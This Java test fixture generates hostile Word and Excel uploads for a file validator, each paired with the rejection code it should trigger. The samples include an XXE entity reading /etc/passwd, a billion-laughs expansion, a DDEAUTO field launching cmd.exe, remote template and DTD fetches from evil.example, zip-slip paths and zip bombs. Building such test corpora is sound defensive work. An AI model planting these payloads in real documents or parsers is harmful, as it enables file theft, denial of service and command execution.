package org.entrepot.platform.file;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

/** Letters and workbooks that run, fetch, hide, break or blow up. */
final class HostileOffice {

  private static final String DTD = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";

  private final List<Hostile> all = new ArrayList<>();
  private final String kind;
  private final String name;
  private final String folder;
  private final String main;

  private HostileOffice(String kind) {
    boolean letter = kind.equals(Honest.LETTER);
    this.kind = kind;
    this.name = letter ? "offer.docx" : "offer.xlsx";
    this.folder = letter ? "word/" : "xl/";
    this.main = letter ? "word/document.xml" : "xl/workbook.xml";
  }

  static List<Hostile> all() {
    List<Hostile> both = new ArrayList<>();
    for (String kind : List.of(Honest.LETTER, Honest.WORKBOOK)) {
      HostileOffice office = new HostileOffice(kind);
      office.macros();
      office.links();
      office.embedded();
      office.markup();
      office.archives();
      if (kind.equals(Honest.LETTER)) {
        office.bombs();
      }
      both.addAll(office.all);
    }
    both.addAll(fields());
    return both;
  }

  private void add(String label, byte[] bytes, String code) {
    all.add(Hostile.paper("an office file " + label, name, bytes, code));
  }

  private void add(String label, Consumer<Map<String, String>> change, String code) {
    Map<String, String> parts = Honest.parts(kind);
    change.accept(parts);
    add(label, Honest.zip(parts), code);
  }

  private void macros() {
    String code = "upload_office_macro";
    add("with macros", parts -> parts.put(folder + "vbaProject.bin", "x"), code);
    add("with macros in capitals", parts -> parts.put(folder + "VBAPROJECT.BIN", "x"), code);
    add("with the names of macros", parts -> parts.put(folder + "vbaData.xml", "<a/>"), code);
    add("with a sheet of macros", parts -> parts.put("xl/macrosheets/sheet1.xml", "<a/>"), code);
    add(
        "that says macro-enabled",
        parts ->
            types(
                parts,
                "ContentType=\"application/xml\"",
                "ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\""),
        code);
    add(
        "that says VBA",
        parts ->
            types(
                parts,
                "ContentType=\"application/xml\"",
                "ContentType=\"application/vnd.ms-office.vbaProject\""),
        code);
    add(
        "that leads to macros",
        parts -> parts.put(folder + "_rels/a.rels", Honest.relation("vbaProject", "x.bin")),
        code);
  }

  private void links() {
    String code = "upload_office_link";
    link("attachedTemplate", "http://evil.example/t.dotm", code);
    link("image", "http://evil.example/pixel.png", code);
    link("oleLink", "http://evil.example/a", code);
    link("frame", "//evil.example/share/a", code);
    link("externalLinkPath", "file:///c:/a.xlsx", code);
    link("hyperlink", "file://evil.example/share", code);
    link("hyperlink", "javascript:alert(1)", code);
    link("hyperlink", "\\\\\\\\evil.example\\\\share", code);
    add("with linked books", parts -> parts.put("xl/externalLinks/link1.xml", "<a/>"), code);
    add("with connections", parts -> parts.put("xl/connections.xml", "<a/>"), code);
  }

  private void link(String type, String target, String code) {
    add(
        "that links " + type + " to " + target,
        parts -> parts.put(folder + "_rels/a.rels", Honest.relation(type, target)),
        code);
  }

  private void embedded() {
    String code = "upload_office_embedded";
    add("with an object", parts -> parts.put(folder + "embeddings/oleObject1.bin", "x"), code);
    add("with a program", parts -> parts.put(folder + "media/setup.exe", "MZ"), code);
    add("with another letter", parts -> parts.put(folder + "embeddings/a.docx", "PK"), code);
    add("with a page", parts -> parts.put(folder + "afchunk.html", "<script>"), code);
    add("with a control", parts -> parts.put(folder + "activeX/activeX1.bin", "x"), code);
    add(
        "that leads to an object",
        parts -> parts.put(folder + "_rels/a.rels", Honest.relation("oleObject", "a.bin")),
        code);
  }

  private void markup() {
    add("with an entity", parts -> parts.put(main, DTD + "<a>&x;</a>"), "upload_xml_dtd");
    add("with a document type", parts -> parts.put(main, "<!DOCTYPE a><a/>"), "upload_xml_dtd");
    add(
        "with a foreign document type",
        parts -> parts.put(main, "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"),
        "upload_xml_dtd");
    add("with a billion laughs", parts -> parts.put(main, laughs()), "upload_xml_dtd");
    add(
        "with an entity in its relations",
        parts -> parts.put("_rels/.rels", DTD + "<a>&x;</a>"),
        "upload_xml_dtd");
    add(
        "with an entity in its contents",
        parts -> parts.put("[Content_Types].xml", DTD + parts.get("[Content_Types].xml")),
        "upload_xml_dtd");
    add(
        "with an entity in a drawing",
        parts -> parts.put(folder + "media/a.svg", DTD + "<svg>&x;</svg>"),
        "upload_xml_dtd");
    add("nested without end", parts -> parts.put(main, "<a>".repeat(5000)), "upload_damaged");
    add("that breaks off", parts -> parts.put(main, "<a><b>"), "upload_damaged");
    add("of no markup", parts -> parts.put(main, "hello"), "upload_damaged");
    add("without its main part", parts -> parts.remove(main), "upload_damaged");
    add("without relations", parts -> parts.remove("_rels/.rels"), "upload_damaged");
  }

  private void archives() {
    byte[] sound = Honest.office(kind);
    add("with bytes behind", Bytes.joined(sound, new byte[10]), "upload_ambiguous");
    add("with a program behind", Bytes.joined(sound, Bytes.hex("4d5a")), "upload_ambiguous");
    add("cut short", Bytes.first(sound, 90), "upload_ambiguous");
    add("cut in half", Bytes.first(sound, 50), "upload_ambiguous");
    add("that climbs out", parts -> parts.put("../../a.xml", "<a/>"), "upload_ambiguous");
    add("that starts at the root", parts -> parts.put("/etc/a.xml", "<a/>"), "upload_ambiguous");
    add("for a drive", parts -> parts.put("c:\\a.xml", "<a/>"), "upload_ambiguous");
    add("with two directories", hidden(sound), "upload_ambiguous");
    add("with a broken part", Bytes.with(sound, 70, "ff ff ff ff"), "upload_damaged");
    add("that is only an archive", Honest.zip(Map.of("a.txt", "a")), "upload_type");
    add(
        "that is a slide show",
        Bytes.joined(Honest.zip(types(Honest.parts(kind), kind, "presentationml.presentation"))),
        "upload_type");
    add(
        "that is a template",
        Bytes.joined(Honest.zip(types(Honest.parts(kind), ".main+xml", ".template.main+xml"))),
        "upload_type");
  }

  private void bombs() {
    add(
        "that blows up",
        parts -> parts.put(main, "<a>" + " ".repeat(65 << 20) + "</a>"),
        "upload_unpacked");
    add(
        "with a picture that blows up",
        parts -> parts.put(folder + "media/a.png", "\0".repeat(65 << 20)),
        "upload_unpacked");
    add(
        "that blows up in many parts",
        parts -> {
          for (int i = 0; i < 7; i++) {
            parts.put(folder + "media/" + i + ".png", "\0".repeat(30 << 20));
          }
        },
        "upload_unpacked");
    add(
        "of too many parts",
        parts -> {
          for (int i = 0; i < 4001; i++) {
            parts.put(folder + "media/" + i + ".png", "");
          }
        },
        "upload_unpacked");
  }

  private static List<Hostile> fields() {
    List<Hostile> fields = new ArrayList<>();
    Map<String, String> codes = new LinkedHashMap<>();
    codes.put("a program", "<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>");
    codes.put(
        "a program in pieces",
        "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>");
    codes.put("a file", "<w:fldSimple w:instr=\" INCLUDETEXT c:\\\\a.txt\"/>");
    codes.put("a picture", "<w:fldSimple w:instr=\"INCLUDEPICTURE http://evil.example/a\"/>");
    codes.forEach(
        (label, code) -> {
          Map<String, String> parts = Honest.parts(Honest.LETTER);
          parts.put("word/document.xml", Honest.body(Honest.LETTER, code));
          fields.add(
              Hostile.paper(
                  "a letter whose field fetches " + label,
                  "offer.docx",
                  Honest.zip(parts),
                  "upload_office_link"));
        });
    return fields;
  }

  private static Map<String, String> types(Map<String, String> parts, String text, String other) {
    parts.computeIfPresent("[Content_Types].xml", (name, types) -> types.replace(text, other));
    return parts;
  }

  private static String laughs() {
    StringBuilder laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"lol\">");
    for (int i = 1; i < 10; i++) {
      laughs.append("<!ENTITY l").append(i).append(" \"");
      laughs.append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
    }
    return laughs.append("]><a>&l9;</a>").toString();
  }

  /** The directory names another part than the one that lies there. */
  private static byte[] hidden(byte[] zip) {
    byte[] changed = zip.clone();
    String text = new String(zip, StandardCharsets.ISO_8859_1);
    int last = text.lastIndexOf("_rels/.rels");
    changed[last + 1] = 'R';
    return changed;
  }
}
